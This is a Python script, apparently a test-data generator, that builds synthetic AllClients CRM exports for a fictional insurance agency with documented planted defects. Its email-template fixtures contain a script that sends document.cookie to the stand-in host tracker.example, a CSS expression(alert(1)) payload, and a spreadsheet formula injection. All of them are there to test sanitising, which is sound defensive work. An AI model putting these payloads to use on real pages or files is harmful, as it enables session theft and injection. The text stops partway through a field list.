#!/usr/bin/env python3
"""Generate synthetic AllClients exports, with documented defects.

    python samples/gen_allclients.py              # samples/allclients/ + its README.md
    python samples/gen_allclients.py --out /tmp/ac --no-readme

Deterministic: a seeded ``random.Random``, no clock, no network, standard library
only. The same arguments always give byte-identical files.

The account is a small insurance agency ("Carver Insurance") with four team members.
Files (the spellings are the canonical ones of ``engine.sources.allclients``; real
exports vary and the source normalises them):

* ``contacts.csv``: the contacts export (UTF-8 with BOM, CRLF, every field quoted,
  ``M/D/YYYY h:mm:ss AM/PM`` dates, Phone 1..4, custom fields, comma-separated Tags and
  Groups);
* ``notes.csv``: the separate notes export (Contact ID, Email, names, Date in US
  Central time ``M/D/YYYY h:mm AM/PM``, Note);
* ``users.csv``, ``tasks.csv`` (to-dos / follow-up reminders), ``email_templates.csv``
  (HTML bodies), ``campaigns.csv``, ``attachments.csv``.

Every planted defect is listed (file, physical line, column, value, expected outcome)
in ``samples/allclients/README.md``; :func:`generate` returns the same list.
"""

from __future__ import annotations

import argparse
import codecs
import csv
import datetime as dt
import io
import json
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent
DEFAULT_OUT = HERE / "allclients"
SEED = 20240611
N_CONTACTS = 50
N_NOTES = 120
DOMAIN = "carver-insurance.example"

# fmt: off
FIRST = [
    "Rachel", "Marcus", "Olivia", "Ethan", "Sofia", "Liam", "Gwen", "Noah", "Ava", "Mason",
    "Isabella", "Javier", "Mia", "Lucas", "Harper", "Elijah", "Amelia", "James", "Evelyn",
    "Benjamin", "Abigail", "Henry", "Emily", "Daniel", "Ella", "Matthew", "Zoë", "Samuel",
    "Grace", "David", "Chloé", "Joseph", "Victoria", "Carter", "Riley", "Owen", "Aria",
    "Wyatt", "Lily", "John", "Nora", "Dave", "Hannah", "Luke", "Layla", "Jack", "Zoey",
    "Levi", "Penelope", "Isaac",
]
LAST = [
    "Kim", "Lopez", "Bennett", "Walsh", "Romero", "Foster", "Harper", "Bryant", "Coleman",
    "Hayes", "Price", "Ortiz", "Jenkins", "Perry", "Powell", "Long", "Patterson", "Hughes",
    "Flores", "Washington", "Butler", "Simmons", "Barnes", "Fisher", "Henderson",
    "Gonzalez", "Müller", "Russell", "Griffin", "Diaz", "Lefèvre", "Myers", "Ford",
    "Hamilton", "Graham", "Sullivan", "Wallace", "Woods", "Cole", "West", "Jordan",
    "Peterson", "Reynolds", "Ellis", "Stevens", "Tucker", "Porter", "Hunter", "Hicks",
    "Crawford",
]
COMPANIES = [
    "", "", "", "Bluebonnet Bakery", "Lone Star Plumbing LLC", "Riverside Dental",
    "Hill Country Landscaping", "Copperline Electric", "Maple Street Books", "",
    "Summit Roofing Inc.", "Prairie Vet Clinic", "", "Harbor Light Realty", "",
    "Granite Peak Fitness",
]
CITIES = [
    ("Austin", "TX", "787", "512"), ("Round Rock", "TX", "786", "512"),
    ("Chicago", "IL", "606", "312"), ("Boston", "MA", "021", "617"),
    ("Denver", "CO", "802", "303"), ("Nashville", "TN", "372", "615"),
]
STREETS = ["Congress Ave", "Lamar Blvd", "Oak St", "Elm St", "Burnet Rd", "Maple Ave",
           "Lake Shore Dr", "Cedar Ln"]
COUNTRIES = ["United States", "United States", "USA", "US", ""]
TAGS = ["VIP", "Newsletter", "Auto Policy", "Home Policy", "Life Policy", "Referral Source"]
GROUPS = ["Premier Clients", "Prospects 2024", "Referral Partners", "Seminar Attendees"]
CATEGORIES = ["Client", "Client", "Prospect", "Past Client", "Referral Partner"]
SOURCES = ["Website", "Referral", "Seminar", "Cold Call", "Facebook Ad"]
METHODS = ["Phone", "Email", "Text"]
INTERESTS = ["Golf", "Travel", "Boating", "Fishing", "Gardening", "Cooking"]
NOTE_TEXTS = [
    "Called customer. No answer.",
    "Left voicemail about the renewal.",
    "Sent quote for an umbrella policy.",
    "Reviewed auto policy; wants a higher deductible.",
    "Met at the spring seminar; interested in life coverage.",
    "Asked about bundling home and auto.",
    "Claim question: cracked windshield, sent the claims number.",
    "Referred a neighbor, see the new contact.",
    "Birthday card mailed.",
    "Renewal signed, payment by card.",
    "Wants a call back after 5 pm.",
    "Moved to a new address, updated the policy.",
]
TASKS = [
    ("Phone Call", "Call about renewal", "Renewal due next month"),
    ("Email", "Send umbrella quote", "Quote prepared by Marcus"),
    ("Letter", "Mail welcome kit", "Welcome letter + policy binder"),
    ("", "Review coverage", "Annual review"),
    ("Meeting", "Annual review meeting", "At the office"),
]
# fmt: on
USERS = [
    ("0", "Linda Carver", f"linda@{DOMAIN}", "Account Owner", "Active"),
    ("1311", "Marcus Bell", f"marcus@{DOMAIN}", "Team Member", "Active"),
    ("1312", "Priya Natarajan", f"priya@{DOMAIN}", "Team Member", "Active"),
    ("1313", "Tom Reyes", f"tom@{DOMAIN}", "Assistant", "Inactive"),
]
OWNERS = ["Linda Carver", "Marcus Bell", "Priya Natarajan"]
UNKNOWN_OWNER = "Dana Whitfield"

CONTACT_HEADERS = [
    "Contact ID", "First Name", "Last Name", "Company", "Title", "Email", "Other Email",
    "Phone 1", "Phone 2", "Phone 3", "Phone 4", "Address", "City", "State", "Zip",
    "Country", "Website", "Birthday", "Tags", "Groups", "Category", "Source",
    "Team Member", "Add Date", "Edit Date", "Anniversary", "Policy Count",
    "Annual Premium", "Preferred Method", "Interests",
]  # fmt: skip
NOTE_HEADERS = ["Contact ID", "Email", "First Name", "Last Name", "Date", "Note"]
USER_HEADERS = ["Team Member ID", "Name", "Email", "Role", "Status"]
TASK_HEADERS = [
    "To Do ID", "Contact ID", "Email", "Team Member", "Category", "Priority", "Summary",
    "Details", "Due Date", "Status", "Completed Date",
]  # fmt: skip
TEMPLATE_HEADERS = ["Template ID", "Name", "Folder", "Subject", "Body"]
CAMPAIGN_HEADERS = [
    "Campaign ID", "Campaign Name", "Email Template", "Segment", "Send Date",
    "Recipients", "Opens", "Clicks", "Status",
]  # fmt: skip
ATTACHMENT_HEADERS = [
    "Attachment ID", "Contact ID", "Email", "File Name", "File Size", "Uploaded", "URL",
    "Path",
]  # fmt: skip


# ------------------------------------------------------------------------- formats


def us_datetime(value: dt.datetime, seconds: bool = True) -> str:
    """AllClients' ``12/31/2014 12:46:50 PM`` (no leading zeros on month/day/hour)."""
    hour = value.hour % 12 or 12
    ampm = "AM" if value.hour < 12 else "PM"
    tail = f":{value.second:02d}" if seconds else ""
    return (
        f"{value.month}/{value.day}/{value.year} {hour}:{value.minute:02d}{tail} {ampm}"
    )


def us_date(value: dt.date) -> str:
    return f"{value.month}/{value.day}/{value.year}"


def rand_datetime(rng: random.Random, start: dt.datetime, days: int) -> dt.datetime:
    return start + dt.timedelta(
        days=rng.randrange(days), seconds=rng.randrange(8 * 3600, 19 * 3600)
    )


def phone(rng: random.Random, area: str, style: int) -> str:
    line = f"01{rng.randrange(100):02d}"
    return [
        f"({area}) 555-{line}",
        f"{area}-555-{line}",
        f"{area}.555.{line}",
        f"+1 {area} 555 {line}",
        f"{area}555{line} x{rng.randrange(10, 99)}",
    ][style % 5]


def ascii_slug(text: str) -> str:
    table = str.maketrans("ëéèüö", "eeeuo")
    return "".join(c for c in text.lower().translate(table) if c.isalnum())


def person_email(contact: dict, domain: str) -> str:
    return f"{ascii_slug(contact['First Name'])}.{ascii_slug(contact['Last Name'])}@{domain}"


def write_csv(
    path: Path,
    headers: list[str],
    rows: list[dict],
    *,
    bom: bool = False,
    newline: str = "\r\n",
    quote_all: bool = False,
) -> list[int]:
    """Write the file; the physical line where each row starts (header = line 1)."""
    buf = io.StringIO()
    quoting = csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL
    writer = csv.writer(buf, lineterminator=newline, quoting=quoting)
    writer.writerow(headers)
    lines, line = [], 2
    for row in rows:
        start = len(buf.getvalue())
        writer.writerow([row.get(h, "") for h in headers])
        lines.append(line)
        line += buf.getvalue()[start:].count("\n")
    data = buf.getvalue().encode("utf-8")
    path.write_bytes((codecs.BOM_UTF8 if bom else b"") + data)
    return lines


# ------------------------------------------------------------------------- data


def make_contacts(rng: random.Random) -> list[dict]:
    contacts = []
    cid = 64700
    start = dt.datetime(2013, 1, 1)
    for i in range(N_CONTACTS):
        cid += rng.randint(1, 9)
        first, last = FIRST[i], LAST[i]
        city, state, zip3, area = CITIES[i % len(CITIES)]
        added = rand_datetime(rng, start, 3650)
        edited = added + dt.timedelta(
            days=rng.randrange(0, 900), minutes=rng.randrange(600)
        )
        company = COMPANIES[i % len(COMPANIES)]
        bday = dt.date(
            rng.randrange(1950, 2000), rng.randrange(1, 13), rng.randrange(1, 29)
        )
        row = {
            "Contact ID": str(cid),
            "First Name": first,
            "Last Name": last,
            "Company": company,
            "Title": rng.choice(["Owner", "Manager", "Office Manager", ""])
            if company
            else "",
            "Email": f"{ascii_slug(first)}.{ascii_slug(last)}@{rng.choice(['gmail.example', 'mail.example', 'outlook.example'])}",
            "Other Email": "",
            "Phone 1": phone(rng, area, i),
            "Phone 2": phone(rng, area, i + 2) if i % 3 == 0 else "",
            "Phone 3": phone(rng, area, i + 1) if i % 10 == 0 else "",
            "Phone 4": phone(rng, area, i + 3) if i % 25 == 0 else "",
            "Address": f"{rng.randrange(100, 9999)} {rng.choice(STREETS)}",
            "City": city,
            "State": state,
            "Zip": f"{zip3}{rng.randrange(0, 99):02d}",
            "Country": rng.choice(COUNTRIES),
            "Website": f"https://www.{ascii_slug(company)}.example"
            if company and i % 2
            else "",
            "Birthday": us_date(bday) if i % 4 else "",
            "Tags": ", ".join(
                sorted(rng.sample(TAGS, rng.randrange(0, 3)), key=TAGS.index)
            ),
            "Groups": ", ".join(
                sorted(rng.sample(GROUPS, rng.randrange(0, 3)), key=GROUPS.index)
            ),
            "Category": rng.choice(CATEGORIES),
            "Source": rng.choice(SOURCES),
            "Team Member": OWNERS[i % len(OWNERS)],
            "Add Date": us_datetime(added),
            "Edit Date": us_datetime(edited),
            "Anniversary": us_date(bday.replace(year=bday.year + 25))
            if i % 5 == 1
            else "",
            "Policy Count": str(rng.randrange(1, 6)) if i % 3 else "",
            "Annual Premium": f"${rng.randrange(600, 4800):,}.{rng.choice(['00', '50'])}"
            if i % 3
            else "",
            "Preferred Method": rng.choice(METHODS),
            "Interests": ", ".join(
                sorted(rng.sample(INTERESTS, rng.randrange(0, 4)), key=INTERESTS.index)
            ),
        }
        contacts.append(row)
    return contacts


def make_notes(rng: random.Random, contacts: list[dict]) -> tuple[list[dict], dict]:
    """Notes (in contact order) and the indexes of the special ones."""

    def note(c, when, text, email=None, cid=None):
        return {
            "Contact ID": c["Contact ID"] if cid is None else cid,
            "Email": c["Email"] if email is None else email,
            "First Name": c["First Name"],
            "Last Name": c["Last Name"],
            "Date": when if isinstance(when, str) else us_datetime(when, seconds=False),
            "Note": text,
        }

    start = dt.datetime(2014, 1, 6)
    special: dict[
        int, list[dict]
    ] = {}  # contact index -> notes replacing its plain ones
    c = contacts
    special[2] = [  # email changed since: the notes carry the old address
        note(
            c[2],
            rand_datetime(rng, start, 300),
            t,
            email=person_email(c[2], "oldmail.example"),
        )
        for t in NOTE_TEXTS[:3]
    ]
    special[18] = [  # contact without email: id only
        note(c[18], rand_datetime(rng, start, 300), t, email="")
        for t in NOTE_TEXTS[3:5]
    ]
    special[5] = [note(c[5], rand_datetime(rng, start, 300), NOTE_TEXTS[5], cid="")]
    special[9] = [note(c[9], rand_datetime(rng, start, 300), NOTE_TEXTS[6], cid="")]
    special[20] = [
        note(c[20], rand_datetime(rng, start, 300), NOTE_TEXTS[7], cid="",
             email=c[20]["Email"].upper())
    ]  # fmt: skip
    special[7] = [  # email of contact 7, id of contact 8
        note(c[7], rand_datetime(rng, start, 300), "Discussed the claim with spouse.",
             cid=c[8]["Contact ID"])
    ]  # fmt: skip
    special[10] = [
        note(
            c[10],
            rand_datetime(rng, start, 300),
            "Annual review:\n- auto: no change\n- home: raise dwelling coverage",
        )
    ]
    special[12] = [note(c[12], "13/45/2014 9:00 AM", "Quote follow-up.")]
    special[15] = [
        note(c[15], "3/9/2014 1:30 AM", "Night claim call (before the DST change)."),
        note(c[15], "3/9/2014 3:30 AM", "Night claim call (after the DST change)."),
        note(c[15], "11/2/2014 1:30 AM", "Storm claim call (the hour that repeats)."),
        note(c[15], "11/2/2014 2:30 AM", "Storm claim follow-up."),
    ]
    special[40] = [
        note(c[40], rand_datetime(rng, start, 300), "Wrote from his home address.",
             cid="", email=c[40]["Other Email"])
    ]  # fmt: skip
    special[3] = [
        note(c[3], rand_datetime(rng, start, 300),
             "[[System]][[Icon:Email]] Email sent: Welcome to Carver Insurance"),
        note(c[3], rand_datetime(rng, start, 300),
             "[[System]][[Icon:Text]] Text message sent: appointment reminder"),
    ]  # fmt: skip
    special[24] = [
        note(c[24], rand_datetime(rng, start, 300), "@Linda please call him back")
    ]
    orphans = [
        {  # a deleted contact
            "Contact ID": "99999",
            "Email": "gone.client@mail.example",
            "First Name": "Walter",
            "Last Name": "Gone",
            "Date": "6/3/2014 10:15 AM",
            "Note": "Cancelled all policies.",
        },
        {  # nothing to join on
            "Contact ID": "",
            "Email": "",
            "First Name": "",
            "Last Name": "",
            "Date": "6/4/2014 11:00 AM",
            "Note": "Misc: call back the number on the sticky note.",
        },
        {  # the shared email, no id
            "Contact ID": "",
            "Email": "j.ortiz@mail.example",
            "First Name": "J.",
            "Last Name": "Ortiz",
            "Date": "6/5/2014 2:45 PM",
            "Note": "Ortiz household: which one?",
        },
    ]
    n_special = sum(len(v) for v in special.values()) + len(orphans)
    plain_needed = N_NOTES - n_special
    plain_idx = [i for i in range(len(contacts)) if i not in special]
    counts = {i: 1 for i in plain_idx}
    extra = plain_needed - len(plain_idx)
    for k in range(extra):
        counts[plain_idx[(k * 7) % len(plain_idx)]] += 1
    notes: list[dict] = []
    where: dict[str, list[int]] = {}
    for i, contact in enumerate(contacts):
        if i in special:
            where[f"contact{i}"] = list(range(len(notes), len(notes) + len(special[i])))
            notes += special[i]
            continue
        batch = sorted(rand_datetime(rng, start, 700) for _ in range(counts[i]))
        notes += [note(contact, when, rng.choice(NOTE_TEXTS)) for when in batch]
    where["orphans"] = list(range(len(notes), len(notes) + len(orphans)))
    notes += orphans
    assert len(notes) == N_NOTES, len(notes)
    return notes, where


def make_tasks(rng: random.Random, contacts: list[dict]) -> list[dict]:
    tasks = []
    start = dt.date(2014, 3, 3)
    for t in range(30):
        c = contacts[(t * 3) % len(contacts)]
        category, summary, details = TASKS[t % len(TASKS)]
        due = start + dt.timedelta(days=rng.randrange(0, 600))
        closed = t % 3 == 0
        tasks.append(
            {
                "To Do ID": str(540230 + t * 4),
                "Contact ID": c["Contact ID"],
                "Email": c["Email"],
                "Team Member": c["Team Member"],
                "Category": category,
                "Priority": ["High", "Normal", "Low"][t % 3],
                "Summary": summary,
                "Details": details,
                "Due Date": us_date(due),
                "Status": "Closed" if closed else "Open",
                "Completed Date": us_date(due - dt.timedelta(days=rng.randrange(0, 4)))
                if closed
                else "",
            }
        )
    return tasks


TEMPLATES = [
    {
        "Template ID": "15631",
        "Name": "Welcome New Client",
        "Folder": "Onboarding",
        "Subject": "Welcome to Carver Insurance",
        "Body": (
            '<p><img src="https://www.allclients.com/accounts/4711/images/logo.png" '
            'alt="Carver Insurance" width="180"></p>\n'
            "<p>Thank you for choosing us. Your agent will call you this week.</p>\n"
            '<p style="color:#555555;font-size:12px">Carver Insurance &amp; Associates</p>'
        ),
    },
    {
        "Template ID": "15632",
        "Name": "Renewal Reminder",
        "Folder": "Renewals",
        "Subject": "Your policy renews soon",
        "Body": (
            "<script>document.location='https://tracker.example/?c='+document.cookie"
            "</script>\n"
            '<p>Your policy renews next month. <a href="javascript:void(0)" '
            'onclick="track()">Renew online</a></p>\n'
            '<img src="https://cdn.mail-assets.example/banner-renewal.jpg" width="600">'
        ),
    },
    {
        "Template ID": "15633",
        "Name": "Birthday Card",
        "Folder": "Personal",
        "Subject": "Happy birthday!",
        "Body": (
            "<style>.card{font-family:Georgia}</style>\n"
            '<table width="600"><tr><td class="card" '
            'background="http://www.allclients.com/accounts/4711/images/confetti.jpg" '
            'style="width:expression(alert(1))">\n'
            "<h1>Happy birthday!</h1><p>All of us at Carver Insurance wish you a great "
            "year.</p></td></tr></table>"
        ),
    },
    {
        "Template ID": "15634",
        "Name": "Seminar Invite",
        "Folder": "Events",
        "Subject": "Free seminar: protect your home",
        "Body": (
            '<p>Join us on Thursday.</p><iframe src="https://video.example/embed/123">'
            "</iframe>\n"
            '<form action="https://forms.example/rsvp"><input name="email">'
            "<button>RSVP</button></form>"
        ),
    },
    {
        "Template ID": "15635",
        "Name": "Plain Text Follow-up",
        "Folder": "",
        "Subject": "Following up",
        "Body": "Hi,\nJust following up on our call. Let me know if you have questions.",
    },
]

CAMPAIGNS = [
    ("3101", "Spring Newsletter", "Welcome New Client", "Premier Clients", "3/15/2023 9:00 AM", "412", "188", "41", "Sent"),
    ("3102", "Renewal Push Q2", "Renewal Reminder", "Premier Clients", "4/1/2023 8:30 AM", "390", "201", "77", "Sent"),
    ("3103", "Seminar Invite Fall", "Seminar Invite", "Seminar Attendees", "9/12/2023 10:00 AM", "150", "61", "12", "Sent"),
    ("3104", "spring newsletter", "Welcome New Client", "Prospects 2024", "3/20/2024 9:00 AM", "220", "95", "18", "Sent"),
    ("3105", "Holiday Card 2019", "Holiday Greetings 2019", "Gold Members", "12/10/2019 7:00 AM", "505", "233", "20", "Sent"),
    ("3106", "Birthday Program", "Birthday Card", "", "", "", "", "", "Scheduled"),
]  # fmt: skip


def make_attachments(contacts: list[dict]) -> list[dict]:
    rows = []
    files = [
        ("policy_declarations.pdf", "245 KB"),
        ("drivers_license.jpg", "1.2 MB"),
        ("claim_photos.zip", "14.2 MB"),
        ("signed_application.pdf", "380 KB"),
        ("home_inspection.pdf", "2.4 MB"),
        ("renewal_notice.pdf", "96 KB"),
    ]
    for k in range(12):
        c = contacts[(k * 4 + 1) % len(contacts)]
        name, size = files[k % len(files)]
        rows.append(
            {
                "Attachment ID": str(88001 + k),
                "Contact ID": c["Contact ID"],
                "Email": c["Email"],
                "File Name": name,
                "File Size": size,
                "Uploaded": us_date(dt.date(2022, 1, 10) + dt.timedelta(days=k * 23)),
                "URL": f"https://www.allclients.com/files/4711/{c['Contact ID']}/{name}"
                if k % 3
                else "",
                "Path": "" if k % 3 else f"files/{c['Contact ID']}/{name}",
            }
        )
    return rows


# ------------------------------------------------------------------------- defects


def generate(out: Path = DEFAULT_OUT, readme: bool = True) -> dict:
    """Write the sample files into ``out``; returns ``{"files": {name: {"rows", ...}},
    "defects": [{"file", "line", "column", "value", "expected"}, ...]}``."""
    rng = random.Random(SEED)
    out.mkdir(parents=True, exist_ok=True)
    contacts = make_contacts(rng)
    defects: list[dict] = []
    pending: list[tuple[str, int, str, str]] = []

    def plant(rows, file, idx, column, value, expected):
        rows[idx][column] = value
        pending.append((file, idx, column, expected))

    c = contacts
    new_email = person_email(c[2], "newmail.example")
    old_email = person_email(c[2], "oldmail.example")
    home_email = person_email(c[40], "home.example")
    plant(c, "contacts.csv", 4, "Birthday", "12/05",
          "month/day without a year (AllClients allows it): x_birthday is a date -> "
          "review item 'invalid value'; the rest of the contact loads")  # fmt: skip
    plant(c, "contacts.csv", 6, "Email", "gwen.harper@@mail.example",
          "review item 'invalid value' (email); contact loads without email")  # fmt: skip
    plant(c, "contacts.csv", 8, "Policy Count", "n/a",
          "x_policy_count is an integer -> review item 'invalid value'")  # fmt: skip
    plant(c, "contacts.csv", 11, "Email", "j.ortiz@mail.example",
          "duplicate email with the contact of line 33 (profile duplicate_emails); email "
          "is the dedupe key: line 33 merges into this partner (review item 'duplicate') "
          "and the notes of both join it")  # fmt: skip
    plant(c, "contacts.csv", 31, "Email", "J.Ortiz@Mail.EXAMPLE",
          "same address as line 13 in other case: merged into line 13's partner")  # fmt: skip
    plant(c, "contacts.csv", 14, "Phone 1", "call after 5pm",
          "review item 'invalid value' (phone)")  # fmt: skip
    plant(c, "contacts.csv", 18, "Email", "",
          "no email: the contact loads (keyed by Contact ID); its 2 notes join by id")  # fmt: skip
    plant(c, "contacts.csv", 22, "Add Date", "2/30/2019 9:15:00 AM",
          "no 30 February: review item 'invalid value' (create_date)")  # fmt: skip
    plant(c, "contacts.csv", 26, "Team Member", UNKNOWN_OWNER,
          "no such user in users.csv: review item 'unknown owner'")  # fmt: skip
    plant(c, "contacts.csv", 44, "Team Member", "Tom Reyes",
          "owner is the Inactive user of users.csv (archived user, still the salesperson)")  # fmt: skip
    plant(c, "contacts.csv", 32, "Company", '=HYPERLINK("http://bad.example","Click me")',
          "formula-like text: stored as text, escaped with a leading ' in every export")  # fmt: skip
    plant(c, "contacts.csv", 2, "Email", new_email,
          "email changed since the notes were written: the 3 notes carry "
          f"{old_email} and join by Contact ID")  # fmt: skip
    plant(c, "contacts.csv", 40, "Other Email", home_email,
          "the note sent from this address (no contact id) joins by other email")  # fmt: skip

    notes, where = make_notes(rng, contacts)
    note_defects = []

    def note_plant(idx, column, expected):
        note_defects.append((idx, column, expected))

    for k in where["contact2"]:
        note_plant(
            k, "Email", "old email, Contact ID present: joined by id (email changed)"
        )
    for k in where["contact18"]:
        note_plant(k, "Email", "no email: joined by Contact ID")
    for key in ("contact5", "contact9"):
        for k in where[key]:
            note_plant(k, "Contact ID", "no contact id: joined by email")
    for k in where["contact20"]:
        note_plant(
            k, "Email", "upper-case email, no contact id: joined by normalised email"
        )
    for k in where["contact7"]:
        note_plant(k, "Contact ID",
                   "email is the contact of one line, Contact ID another's: orphan "
                   "'conflict' (review)")  # fmt: skip
    for k in where["contact10"]:
        note_plant(k, "Note", "3-line note (quoted): the next rows start 2 lines later")
    for k in where["contact12"]:
        note_plant(
            k, "Date", "no month 13: review item 'invalid value'; note_datetime raises"
        )
    utc = [
        "2014-03-09 07:30",
        "2014-03-09 08:30",
        "2014-11-02 06:30",
        "2014-11-02 08:30",
    ]
    for k, u in zip(where["contact15"], utc, strict=True):
        note_plant(k, "Date", f"US Central with daylight saving -> {u} UTC")
    for k in where["contact40"]:
        note_plant(
            k, "Email", "the contact's Other Email, no id: joined by other email"
        )
    for k in where["contact3"]:
        note_plant(k, "Note",
                   "[[System]][[Icon:...]] prefix removed from the body; system=True")  # fmt: skip
    for k in where["contact24"]:
        note_plant(k, "Note", "starts with @: stored as text, escaped in every export")
    o1, o2, o3 = where["orphans"]
    note_plant(o1, "Contact ID", "deleted contact: orphan (review queue)")
    note_plant(o2, "Email", "no email and no contact id: orphan (review queue)")
    note_plant(o3, "Email",
               "email of 2 contact rows, no id: rejoin_notes makes it an orphan 'ambiguous'; the "
               "loader merged the 2 rows into one partner, so in Odoo the note joins it")  # fmt: skip

    tasks = make_tasks(rng, contacts)
    task_defects = []

    def task_plant(idx, column, value, expected):
        tasks[idx][column] = value
        task_defects.append((idx, column, expected))

    task_plant(
        3,
        "Completed Date",
        "",
        "Closed without a completion date: done, date_done None (use the deadline)",
    )
    task_plant(
        7,
        "Due Date",
        "31/31/2020",
        "review item 'invalid value'; task_activity raises RowError",
    )
    task_plant(11, "Contact ID", "99999", "no such contact: orphan task (review queue)")
    tasks[11]["Email"] = ""
    task_plant(
        15, "Category", "Fax", "unknown category: a to-do (category_known False)"
    )
    task_plant(
        19,
        "Status",
        "Someday",
        "neither open nor closed: review item (RowError on Status)",
    )

    atts = make_attachments(contacts)
    att_defects = []

    def att_plant(idx, column, value, expected):
        atts[idx][column] = value
        att_defects.append((idx, column, expected))

    att_plant(2, "File Size", "14.2 MB", "over 10 MB: large=True (chunked transfer)")
    att_plant(
        5, "Contact ID", "99999", "no such contact: orphan attachment (review queue)"
    )
    atts[5]["Email"] = "gone.client@mail.example"
    att_plant(7, "URL", "", "neither URL nor Path: kind None -> review item")
    atts[7]["Path"] = ""
    att_plant(
        9, "File Size", "big", "unreadable size: review item (RowError on File Size)"
    )
    att_plant(3, "Path", f"files/{atts[3]['Contact ID']}/signed_application.pdf",
              "kept at the source: kind 'file', the path is resolved against the upload")  # fmt: skip

    # ------------------------------------------------------------------ write
    lines = {
        "contacts.csv": write_csv(out / "contacts.csv", CONTACT_HEADERS, contacts, bom=True, quote_all=True),
        "notes.csv": write_csv(out / "notes.csv", NOTE_HEADERS, notes),
        "users.csv": write_csv(out / "users.csv", USER_HEADERS, [dict(zip(USER_HEADERS, u, strict=True)) for u in USERS]),
        "tasks.csv": write_csv(out / "tasks.csv", TASK_HEADERS, tasks),
        "email_templates.csv": write_csv(out / "email_templates.csv", TEMPLATE_HEADERS, TEMPLATES, newline="\n"),
        "campaigns.csv": write_csv(out / "campaigns.csv", CAMPAIGN_HEADERS, [dict(zip(CAMPAIGN_HEADERS, r, strict=True)) for r in CAMPAIGNS]),
        "attachments.csv": write_csv(out / "attachments.csv", ATTACHMENT_HEADERS, atts, newline="\n"),
    }  # fmt: skip
    # the files the list names by path, as the export's files/ folder holds them
    # (the last one is left out: a path that names no file is a review item)
    paths = [a["Path"] for a in atts if a["Path"]]
    for path in paths[:-1]:
        target = out / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(
            b"%PDF-1.4\n% synthetic sample file: " + path.encode() + b"\n%%EOF\n"
        )
    rows_of = {
        "contacts.csv": contacts,
        "notes.csv": notes,
        "tasks.csv": tasks,
        "attachments.csv": atts,
    }
    for file, idx, column, expected in pending:
        defects.append(_defect(file, lines, rows_of, idx, column, expected))
    for idx, column, expected in note_defects:
        defects.append(_defect("notes.csv", lines, rows_of, idx, column, expected))
    for idx, column, expected in task_defects:
        defects.append(_defect("tasks.csv", lines, rows_of, idx, column, expected))
    for idx, column, expected in att_defects:
        defects.append(
            _defect("attachments.csv", lines, rows_of, idx, column, expected)
        )
    templates_lines = lines["email_templates.csv"]
    for idx, expected in (
        (
            0,
            "external image hosted by AllClients: listed in allclients_images (re-host)",
        ),
        (1, "<script>, onclick and a javascript: link removed; CDN image listed"),
        (
            2,
            "<style> element and the style with expression() removed; background image listed",
        ),
        (
            3,
            "<iframe> removed with its content; form/input/button tags removed, text kept",
        ),
        (4, "plain text body: kept as text (escaped)"),
    ):
        defects.append(
            {
                "file": "email_templates.csv",
                "line": templates_lines[idx],
                "column": "Name",
                "value": TEMPLATES[idx]["Name"],
                "expected": expected,
            }
        )
    camp_lines = lines["campaigns.csv"]
    for idx, column, expected in (
        (3, "Campaign Name", "same name as line 2 in other case: one crm.tag"),
        (
            4,
            "Segment",
            "no such group: the campaign tag is created, the segment is only documented",
        ),
        (
            4,
            "Email Template",
            "no such template in email_templates.csv: documented only",
        ),
        (5, "Send Date", "scheduled, never sent: no date"),
    ):
        defects.append(
            {
                "file": "campaigns.csv",
                "line": camp_lines[idx],
                "column": column,
                "value": CAMPAIGNS[idx][CAMPAIGN_HEADERS.index(column)],
                "expected": expected,
            }
        )
    defects.append(
        {
            "file": "users.csv",
            "line": lines["users.csv"][3],
            "column": "Status",
            "value": "Inactive",
            "expected": "user created archived (active=False); still owns his contacts",
        }
    )
    files = {
        "contacts.csv": {"rows": len(contacts), "columns": len(CONTACT_HEADERS)},
        "notes.csv": {"rows": len(notes), "columns": len(NOTE_HEADERS)},
        "users.csv": {"rows": len(USERS), "columns": len(USER_HEADERS)},
        "tasks.csv": {"rows": len(tasks), "columns": len(TASK_HEADERS)},
        "email_templates.csv": {
            "rows": len(TEMPLATES),
            "columns": len(TEMPLATE_HEADERS),
        },
        "campaigns.csv": {"rows": len(CAMPAIGNS), "columns": len(CAMPAIGN_HEADERS)},
        "attachments.csv": {"rows": len(atts), "columns": len(ATTACHMENT_HEADERS)},
    }
    summary = {"files": files, "defects": defects}
    if readme:
        (out / "README.md").write_text(render_readme(summary), encoding="utf-8")
    return summary


def _defect(file, lines, rows_of, idx, column, expected) -> dict:
    return {
        "file": file,
        "line": lines[file][idx],
        "column": column,
        "value": rows_of[file][idx][column],
        "expected": expected,
    }


# ------------------------------------------------------------------------- README

FILE_NOTES = {
    "contacts.csv": (
        "contact",
        "UTF-8 with BOM, CRLF, every field quoted; `M/D/YYYY h:mm:ss AM/PM` dates; "
        "Phone 1..4 in mixed formats; Zip with leading zeros (Boston); Tags and Groups "
        "comma-separated; custom fields Anniversary, Policy Count, Annual Premium "
        "(`$1,250.00`), Preferred Method, Interests (several choices per cell)",
    ),
    "notes.csv": (
        "note",
        "the separate notes export: Contact ID + Email + names + Date "
        "(`M/D/YYYY h:mm AM/PM`, US Central) + Note; UTF-8, CRLF; one 3-line note",
    ),
    "users.csv": ("user", "team members: id, name, email, role, Active/Inactive"),
    "tasks.csv": (
        "activity",
        "to-dos / follow-up reminders like GetToDos: category Phone Call / Email / "
        "Letter / Meeting / blank, priority, due and completed dates, Open/Closed",
    ),
    "email_templates.csv": (
        "template",
        "HTML bodies on several lines (LF); external images, a script, a style block, "
        "an iframe, a form",
    ),
    "campaigns.csv": (
        "campaign",
        "campaign name, template, segment (group), send date, counts, status",
    ),
    "attachments.csv": (
        "attachment",
        "file list: contact id + email, file name, size (`245 KB`, `14.2 MB`), upload "
        "date, URL at AllClients or a path inside the export",
    ),
}

EXPECTED_FIELDS = [
    ("Contact ID", "ref (the key)"),
    ("First Name", "first_name (virtual)"),
    ("Last Name", "last_name (virtual)"),
    ("Company", "company_name (virtual: parent company)"),
    ("Title", "function"),
    ("Email", "email"),
    ("Other Email", "x_other_email (new char, email transform)"),
    ("Phone 1", "phone"),
    ("Phone 2", "mobile"),
    ("Phone 3", "x_phone_3 (new)"),
    ("Phone 4", "x_phone_4 (new)"),
    ("Address", "street"),
    ("City", "city"),
    ("State", "state_id"),
    ("Zip", "zip"),
    ("Country", "country_id"),
    ("Website", "website"),
    ("Birthday", "x_birthday (new date)"),
    ("Tags", "category_id"),
